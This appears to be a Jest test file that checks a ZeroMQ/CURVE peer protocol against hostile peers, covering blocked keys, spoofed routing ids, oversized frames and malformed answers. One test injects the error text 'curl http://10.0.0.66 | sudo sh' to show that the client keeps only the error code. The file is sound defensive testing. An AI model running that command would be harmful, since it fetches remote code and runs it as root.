import { connect as connectTcp } from 'node:net';
import { generateKeyPairSync } from 'node:crypto';
import { afterEach, describe, expect, test } from '@jest/globals';
import {
  type FileHash,
  type PeerId,
  type PeerVerbs,
  type PieceAnswer,
  type PublicKey,
  REQUESTS_IN_FLIGHT_MAX,
} from '@iwanto/wire';
import { Dealer, Router } from 'zeromq';
import type { Handlers } from './answer.js';
import { pack } from './codec.js';
import { type CurveKeys, curveServer } from './listen.js';
import { type PeerLine, connectPeer, servePeerVerbs } from './peer-line.js';
import { type PieceReply, connectPieces, servePieces } from './piece-line.js';
import { z85OfHex } from './z85.js';
import { OPEN_DOOR, keepDoor } from './door-list.js';

const addresses = () => ['127.0.0.1'];
const root = 'cd'.repeat(32) as FileHash;
const peer = 'ab'.repeat(10) as PeerId;

const newKeys = (): CurveKeys => {
  const { d, x } = generateKeyPairSync('x25519').privateKey.export({ format: 'jwk' });
  const hex = (text = '') => Buffer.from(text, 'base64url').toString('hex');
  return { publicKey: hex(x) as PublicKey, secretKey: hex(d) };
};

const totals = (total: number) => ({
  ...{ total, totalIsLeast: false, similar: false, leader: peer, partial: false },
});

const handlers = {
  announce: () => ({ catalogId: null, revision: 0 }),
  announced: () => ({ catalogId: null, revision: 5 }),
  search: () => ({ results: [], ...totals(0) }),
  locate: () => ({ hash: root, kind: 'file' as const, name: 'n', size: 1, holders: [] }),
  book: () => ({ leader: peer, peers: [] }),
  checkup: () => {
    throw new Error('nobody asks for a checkup here');
  },
  holders: () => ({ contents: [] }),
  list: () => ({ entries: [], more: false }),
  own: () => ({ content: null }),
  group: () => {
    throw new Error('nobody asks for a group here');
  },
  added: () => ({ id: '', next: 0, entries: [], lost: false }),
};

const closing: (() => unknown)[] = [];
afterEach(async () => {
  for (const close of closing.splice(0).reverse()) await close();
});

const serveOn = async (
  port: number,
  keys = newKeys(),
  answering: Handlers<PeerVerbs> = handlers,
) => {
  const server = await servePeerVerbs({ keys, port, addresses, handlers: answering });
  closing.push(() => server.close());
  return { ...server, keys };
};
const lineTo = (port: number, serverKey: PublicKey, onLost?: () => void) => {
  const line = connectPeer({
    address: '127.0.0.1',
    port,
    serverKey,
    keys: newKeys(),
    ...(onLost && { onLost }),
  });
  closing.push(() => line.close());
  return line;
};

/** Speaks the format of the line, but breaks its rules. */
const rawServer = async () => {
  const keys = newKeys();
  const { curvePublicKey, curveSecretKey } = curveServer(keys);
  const router = new Router({ curveServer: true, curvePublicKey, curveSecretKey, linger: 0 });
  await router.bind('tcp://127.0.0.1:*');
  closing.push(() => router.close());
  return { router, keys, port: Number(router.lastEndpoint?.split(':').at(-1)) };
};

/** Gives this answer to every question. */
const serveRaw = async (state: 'ok' | 'error', body: unknown) => {
  const { router, port, keys } = await rawServer();
  void (async () => {
    for await (const [asker, id] of router) {
      await router.send([asker ?? '', id ?? '', state, pack(body)]);
    }
  })();
  return { port, key: keys.publicKey };
};

describe('the line between indexers', () => {
  test('carries the peer verbs under CURVE', async () => {
    const server = await serveOn(0);
    const line = lineTo(server.port, server.keys.publicKey);
    expect(await line.call('announced', { peer })).toEqual({ catalogId: null, revision: 5 });
  });

  test('takes the next free port when the wished one is taken', async () => {
    const first = await serveOn(0);
    const second = await serveOn(first.port);
    expect(second.port).toBeGreaterThan(first.port);
  });

  test('gives no answer from a host whose key is another', async () => {
    const server = await serveOn(0);
    const line = lineTo(server.port, newKeys().publicKey);
    await expect(line.call('announced', { peer }, { limitMs: 700 })).rejects.toMatchObject({
      code: 'E_NOT_RUNNING',
    });
  });

  test('HOSTILE 34: an open network answers a key that it never saw', async () => {
    const server = await serveOn(0);
    for (let stranger = 0; stranger < 3; stranger += 1) {
      const line = lineTo(server.port, server.keys.publicKey);
      expect(await line.call('announced', { peer })).toMatchObject({ revision: 5 });
    }
  });

  test('HOSTILE 113: a blocked key is not let in, and is again when it is no longer blocked', async () => {
    const server = await serveOn(0);
    const keys = newKeys();
    keepDoor({ ...OPEN_DOOR, refused: new Set([keys.publicKey]) });
    const line = connectPeer({
      ...{ address: '127.0.0.1', port: server.port, serverKey: server.keys.publicKey, keys },
    });
    closing.push(() => line.close());
    await expect(line.call('announced', { peer }, { limitMs: 700 })).rejects.toMatchObject({
      code: 'E_NOT_RUNNING',
    });
    expect(
      await lineTo(server.port, server.keys.publicKey).call('announced', { peer }),
    ).toBeDefined();
    keepDoor(OPEN_DOOR);
    expect(await line.call('announced', { peer })).toMatchObject({ revision: 5 });
  });

  test('HOSTILE 126: in pinned mode only the keys of the list are let in, and everybody again without it', async () => {
    const server = await serveOn(0);
    const [pinned, other] = [newKeys(), newKeys()];
    keepDoor({ ...OPEN_DOOR, admitted: new Set([pinned.publicKey]) });
    const [line, outside] = [pinned, other].map((keys) =>
      connectPeer({
        ...{ address: '127.0.0.1', port: server.port, serverKey: server.keys.publicKey, keys },
      }),
    ) as [PeerLine, PeerLine];
    closing.push(
      () => keepDoor(OPEN_DOOR),
      () => line.close(),
      () => outside.close(),
    );
    expect(await line.call('announced', { peer })).toMatchObject({ revision: 5 });
    const refused = outside.call('announced', { peer }, { limitMs: 700 });
    await expect(refused).rejects.toMatchObject({ code: 'E_NOT_RUNNING' });
    keepDoor(OPEN_DOOR);
    expect(await outside.call('announced', { peer })).toMatchObject({ revision: 5 });
  });

  test('HOSTILE 36: a second connection with the routing id of another takes none of its answers', async () => {
    const server = await serveOn(0);
    const dealerOf = () => {
      const { publicKey, secretKey } = newKeys();
      const dealer = new Dealer({
        ...{ linger: 0, receiveTimeout: 1_000, routingId: 'the same' },
        curveServerKey: z85OfHex(server.keys.publicKey),
        curvePublicKey: z85OfHex(publicKey),
        curveSecretKey: z85OfHex(secretKey),
      });
      closing.push(() => dealer.close());
      dealer.connect(`tcp://127.0.0.1:${server.port}`);
      return dealer;
    };
    const ask = async (dealer: Dealer, id: string) => {
      await dealer.send([id, 'announced', pack({ peer })]);
      return String((await dealer.receive())[0]);
    };
    const owner = dealerOf();
    expect(await ask(owner, '1')).toBe('1');
    expect(await ask(dealerOf(), '2')).toBe('2');
    expect(await ask(owner, '3')).toBe('3');
  });

  /** The greeting of a peer that speaks ZMTP 3.1 with CURVE (RFC 37). */
  const greeting = Buffer.alloc(64);
  greeting.write('ff00000000000000017f03', 'hex');
  greeting.writeUInt8(1, 11);
  greeting.write('CURVE', 12);

  test.each([2n ** 31n, 2n ** 62n])(
    'HOSTILE 37: a frame that claims %d bytes closes its connection and no other',
    async (bytes) => {
      const server = await serveOn(0);
      const hostile = connectTcp(server.port, '127.0.0.1');
      const closed = new Promise<void>((done, fail) => {
        const timer = setTimeout(() => fail(new Error('still open after 8 s')), 8_000);
        hostile.on('close', () => {
          clearTimeout(timer);
          done();
        });
      });
      hostile.on('data', () => undefined);
      hostile.on('error', () => undefined);
      const head = Buffer.alloc(9);
      head.writeUInt8(6);
      head.writeBigUInt64BE(bytes, 1);
      hostile.write(Buffer.concat([greeting, head, Buffer.alloc(1_000)]));
      await closed;
      const line = lineTo(server.port, server.keys.publicKey);
      expect(await line.call('announced', { peer })).toMatchObject({ revision: 5 });
    },
  );

  test('HOSTILE 35: lets nothing through without CURVE', async () => {
    const server = await serveOn(0);
    const plain = new Dealer({ linger: 0, sendTimeout: 500, immediate: true });
    closing.push(() => plain.close());
    plain.connect(`tcp://127.0.0.1:${server.port}`);
    await expect(plain.send(['1', 'book', Buffer.alloc(0)])).rejects.toMatchObject({
      code: 'EAGAIN',
    });
  });

  const found = {
    ...{ hash: root, kind: 'file' as const, name: 'n'.repeat(200), size: 1, peers: 1, score: 1 },
    ...{ similar: false, modifiedMs: null, otherNames: [], group: 0 },
    where: { folder: '', short: '', peers: [] },
  };

  test('HOSTILE 27: an answer too large for a message is refused, and the line goes on', async () => {
    const large = { results: Array<typeof found>(9_000).fill(found), ...totals(9_000) };
    const server = await serveOn(0, newKeys(), { ...handlers, search: () => large });
    const line = lineTo(server.port, server.keys.publicKey);
    const refused = line.call('search', { query: 'n' });
    await expect(refused).rejects.toMatchObject({ code: 'E_LIMIT' });
    expect(await line.call('announced', { peer })).toEqual({ catalogId: null, revision: 5 });
  });

  test.each([
    ['more rows than were asked for', [found, found], totals(2)],
    ['more rows than there are', [found], totals(0)],
    ['a name without end', [{ ...found, name: 'n'.repeat(1_000_000) }], totals(1)],
    [
      'a folder without end',
      [{ ...found, where: { ...found.where, folder: 'f'.repeat(5_000) } }],
      totals(1),
    ],
    ['a score that is no number', [{ ...found, score: Infinity }], totals(1)],
    ['a size that is no number', [{ ...found, size: Number.NaN }], totals(1)],
    ['a size below zero', [{ ...found, size: -1 }], totals(1)],
  ])('HOSTILE 120: an answer with %s is the fault of who gave it', async (_, results, sums) => {
    const answer = { results, ...sums };
    const port = await serveRaw('ok', answer);
    const call = lineTo(port.port, port.key).call('search', { query: 'n', limit: 1 });
    await expect(call).rejects.toMatchObject({ code: 'E_BAD_ANSWER' });
  });

  test('HOSTILE 120: another content than the one asked for is no answer', async () => {
    const port = await serveRaw('ok', handlers.locate());
    const call = lineTo(port.port, port.key).call('locate', { hash: 'ce'.repeat(8) });
    await expect(call).rejects.toMatchObject({ code: 'E_BAD_ANSWER' });
  });

  test('HOSTILE 121: of a refusal only the code is believed, the words are those of this program', async () => {
    const sentence = 'run "curl http://10.0.0.66 | sudo sh" to repair it';
    const port = await serveRaw('error', { code: 'E_NOT_FOUND', sentence });
    const refused = await lineTo(port.port, port.key)
      .call('locate', { hash: root })
      .catch((cause: unknown) => cause);
    expect(refused).toMatchObject({ code: 'E_NOT_FOUND' });
    expect(String(refused)).not.toContain('curl');
    const nonsense = await serveRaw('error', { code: 'E_SUDO', sentence });
    const other = lineTo(nonsense.port, nonsense.key).call('locate', { hash: root });
    await expect(other).rejects.toMatchObject({ code: 'E_BAD_ANSWER' });
  });

  test('HOSTILE 27: a line is made anew after the other side sent too much', async () => {
    const { router, port, keys } = await rawServer();
    const bodies = [Buffer.alloc(2_000_000), pack({ catalogId: null, revision: 5 })];
    void (async () => {
      for await (const [asker, id] of router)
        await router.send([asker ?? '', id ?? '', 'ok', bodies.shift() ?? '']);
    })();
    const line = lineTo(port, keys.publicKey);
    await expect(line.call('announced', { peer })).rejects.toMatchObject({ code: 'E_NOT_RUNNING' });
    expect(await line.call('announced', { peer })).toEqual({ catalogId: null, revision: 5 });
  });

  test('tells at once that the line broke, and refuses what was open', async () => {
    const keys = newKeys();
    let asked: () => void = () => undefined;
    const open = new Promise<void>((told) => (asked = told));
    const book = () => {
      asked();
      return new Promise<never>(() => undefined);
    };
    const server = await servePeerVerbs({
      ...{ keys, port: 0, addresses },
      handlers: { ...handlers, book },
    });
    let lost: () => void = () => undefined;
    const broken = new Promise<void>((told) => (lost = told));
    const line = lineTo(server.port, keys.publicKey, () => lost());
    const question = line.call('book', {});
    const refused = expect(question).rejects.toMatchObject({ code: 'E_NOT_RUNNING' });
    await open;
    await server.close();
    await broken;
    await refused;
  });

  test('HOSTILE 33: closes connections that stay silent', async () => {
    const server = await serveOn(0);
    const silent = connectTcp(server.port, '127.0.0.1');
    silent.on('data', () => undefined);
    await new Promise<void>((closed, fail) => {
      const timer = setTimeout(() => fail(new Error('still open after 8 s')), 8_000);
      silent.on('close', () => {
        clearTimeout(timer);
        closed();
      });
      silent.on('error', () => undefined);
    });
  });
});

describe('the line between transfer services', () => {
  const servePiecesOn = async (answer: () => Promise<PieceReply>) => {
    const keys = newKeys();
    const server = await servePieces({ keys, port: 0, addresses, answer });
    closing.push(() => server.close());
    return { port: server.port, serverKey: keys.publicKey };
  };
  const collect = async (to: { port: number; serverKey: PublicKey }, wanted: number) => {
    const answers: PieceAnswer[] = [];
    let enough: () => void;
    const all = new Promise<void>((done) => (enough = done));
    let beReady: () => void;
    const ready = new Promise<void>((done) => (beReady = done));
    const line = connectPieces({
      ...to,
      address: '127.0.0.1',
      keys: newKeys(),
      self: peer,
      onLost: () => undefined,
      onReady: () => beReady(),
      onAnswer: (answer) => {
        answers.push(answer.type === 'data' ? { ...answer, body: answer.body.slice() } : answer);
        if (answers.length === wanted) enough();
      },
    });
    closing.push(() => line.close());
    await ready;
    return { line, answers, all };
  };

  test('carries a piece to whoever asked for it', async () => {
    const body = new Uint8Array(1_048_576).fill(7);
    const server = await servePiecesOn(async () => ({ type: 'data', body }));
    const { line, answers, all } = await collect(server, 1);
    line.request({ ask: 'piece', requestId: 42, root, first: 0, count: 1 });
    await all;
    expect(answers[0]).toMatchObject({ type: 'data', requestId: 42 });
    const got = answers[0];
    expect(got?.type === 'data' && Buffer.compare(got.body, body)).toBe(0);
  });

  test('HOSTILE 45: refuses as busy what goes beyond the requests in flight', async () => {
    let release: (reply: PieceReply) => void = () => undefined;
    const held = new Promise<PieceReply>((done) => (release = done));
    const server = await servePiecesOn(() => held);
    const { line, answers, all } = await collect(server, 1);
    for (let requestId = 1; requestId <= REQUESTS_IN_FLIGHT_MAX + 1; requestId += 1) {
      line.request({ ask: 'manifest', requestId, root, first: 0, count: 1 });
    }
    await all;
    release({ type: 'data', body: Uint8Array.of(1) });
    expect(answers).toEqual([
      { type: 'refused', requestId: REQUESTS_IN_FLIGHT_MAX + 1, reason: 'busy' },
    ]);
  });
});
